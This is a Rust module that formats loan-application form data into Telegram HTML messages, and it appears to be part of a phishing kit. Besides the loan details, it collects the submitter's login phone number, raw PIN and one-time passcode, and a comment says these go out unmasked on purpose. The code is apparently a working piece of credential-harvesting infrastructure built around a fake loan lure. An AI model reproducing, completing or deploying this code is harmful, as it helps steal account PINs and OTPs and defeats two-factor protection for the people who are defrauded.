use serde_json::Value;

use crate::payload::{self, Submission};

/// Longest value rendered under "Other" before truncation, in characters.
const CLIP_LIMIT: usize = 800;
const CLIP_SUFFIX: &str = "…(truncated)";

const FALLBACK_HEADING: &str = "New Loan Submission Request";
const MISSING_FIELD: &str = "N/A";

const LOAN_KEYS: [&str; 3] = ["loanAmount", "loanPeriod", "employment"];

/// Escape text for Telegram HTML mode.
///
/// The ampersand must be replaced first so the entities introduced by the
/// later substitutions are not escaped twice.
pub fn escape_html(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Escape a value for rendering, cutting it to [`CLIP_LIMIT`] characters with
/// a visible marker when it is longer.
pub fn clip(value: &Value) -> String {
    let text = payload::value_text(value);
    match text.char_indices().nth(CLIP_LIMIT) {
        None => escape_html(&text),
        Some((cut, _)) => format!("{}{}", escape_html(&text[..cut]), CLIP_SUFFIX),
    }
}

/// Pick the message heading.
///
/// Explicit loan details win over the plan label sent by the frontend; with
/// neither present a fixed heading is used. Escaping happens at render time.
pub fn heading(submission: &Submission) -> String {
    if LOAN_KEYS.iter().any(|key| submission.is_truthy(key)) {
        let field = |key: &str| {
            if submission.is_truthy(key) {
                submission.text(key)
            } else {
                MISSING_FIELD.to_string()
            }
        };

        return format!(
            "Loan Request: USD {} / {} month(s) ({})",
            field("loanAmount"),
            field("loanPeriod"),
            field("employment"),
        );
    }

    if submission.is_truthy("plan") {
        return submission.text("plan");
    }

    FALLBACK_HEADING.to_string()
}

/// Render the full HTML message: heading, optional time and login sections,
/// then every remaining field under "Other".
pub fn render(submission: &Submission) -> String {
    let mut text = format!("<b>{}</b>\n\n", escape_html(&heading(submission)));

    if submission.is_truthy("submittedAt") {
        text.push_str(&format!(
            "<b>Time:</b> {}\n\n",
            escape_html(&submission.text("submittedAt"))
        ));
    }

    if submission.is_truthy("loginPhone") {
        text.push_str("<b>Login details:</b>\n");
        text.push_str(&format!(
            "<b>Phone:</b> {}\n",
            escape_html(&submission.text("loginPhone"))
        ));
        // The raw PIN and OTP go out on purpose; only the log copy is masked.
        if submission.is_truthy("loginPin") {
            text.push_str(&format!(
                "<b>PIN:</b> {}\n",
                escape_html(&submission.text("loginPin"))
            ));
        }
        if submission.is_truthy("otp") {
            text.push_str(&format!(
                "<b>OTP:</b> {}\n",
                escape_html(&submission.text("otp"))
            ));
        }
        text.push('\n');
    }

    let mut extras = submission.extras().peekable();
    if extras.peek().is_some() {
        text.push_str("<b>Other:</b>\n");
        for (key, value) in extras {
            text.push_str(&format!("<b>{}:</b> {}\n", escape_html(key), clip(value)));
        }
    }

    text
}
